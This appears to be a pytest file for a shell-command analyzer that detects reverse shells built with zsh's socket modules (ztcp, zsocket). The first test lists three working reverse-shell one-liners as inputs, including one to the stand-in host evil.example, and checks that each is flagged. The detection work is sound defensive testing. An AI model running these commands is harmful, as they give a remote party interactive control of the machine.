"""zsh's socket module hands a socket to a shell through `$REPLY` (`ztcp h p; zsh >&$REPLY`)."""

from __future__ import annotations

import pytest
from crustcore_nano.shell import ShellSignal, analyze

_ENV = {"HOME": "/home/me", "PATH": "/usr/bin:/bin"}


def _signals(command: str) -> frozenset[ShellSignal]:
    return analyze(command, env=_ENV, home="/home/me", cwd="/work").signals


@pytest.mark.parametrize(
    "command",
    [
        "zmodload zsh/net/tcp; ztcp 10.0.0.1 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
        "zsh -c 'zmodload zsh/net/tcp; ztcp evil.example 443; sh <&$REPLY >&$REPLY'",
        "zmodload zsh/net/socket; zsocket /tmp/s; bash -i >&$REPLY 0>&1",
    ],
)
def test_a_shell_on_a_zsh_socket_is_a_reverse_shell(command: str) -> None:
    assert ShellSignal.REVERSE_SHELL in _signals(command)


@pytest.mark.parametrize(
    "command",
    [
        "ztcp -L",
        "ztcp -c 5",
        "zsh -c 'echo done >&2'",
        "exec 3>build.log; make >&3",
        "ztcp example.org 80; print -u $REPLY 'GET /'",
    ],
)
def test_other_descriptor_copies_are_not(command: str) -> None:
    assert ShellSignal.REVERSE_SHELL not in _signals(command)
